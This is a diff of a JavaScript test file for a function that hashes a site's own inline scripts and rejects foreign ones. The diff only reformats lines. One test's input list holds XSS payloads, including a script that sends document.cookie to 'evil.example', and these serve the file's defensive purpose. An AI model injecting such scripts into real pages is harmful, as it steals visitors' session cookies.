@@ -20,7 +20,9 @@ describe('inlineScriptHashes', () => {
   it('an editor writing about <script> tags, in a description or a text, is no script and never stops publishing', () => {
     const words = 'Maqola HTML haqida: <script> va </script> teglari';
     const escaped = words.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
-    const html = page(`<meta name="description" content="${words.replaceAll('"', '&quot;')}"><meta property="og:description" content="${words}"><p>${escaped}</p><script type="module" src="/_astro/a.js"></script>`);
+    const html = page(
+      `<meta name="description" content="${words.replaceAll('"', '&quot;')}"><meta property="og:description" content="${words}"><p>${escaped}</p><script type="module" src="/_astro/a.js"></script>`,
+    );
     expect(inlineScriptHashes(html)).toHaveLength(1);
   });
 
@@ -39,7 +41,11 @@ describe('inlineScriptHashes', () => {
   });
 
   it('fails on any other inline script, saying what it is and where to look', () => {
-    for (const foreign of ['<script>alert(document.cookie)</script>', '<SCRIPT type="text/javascript">fetch("//evil.example/"+document.cookie)</SCRIPT>', `<script>${JS_CLASS_SCRIPT};alert(1)</script>`]) {
+    for (const foreign of [
+      '<script>alert(document.cookie)</script>',
+      '<SCRIPT type="text/javascript">fetch("//evil.example/"+document.cookie)</SCRIPT>',
+      `<script>${JS_CLASS_SCRIPT};alert(1)</script>`,
+    ]) {
       expect(() => inlineScriptHashes(page(`<article><p>Yangilik</p>${foreign}</article>`)), foreign).toThrow(/not one of the site's own.*sanitiser/s);
     }
   });
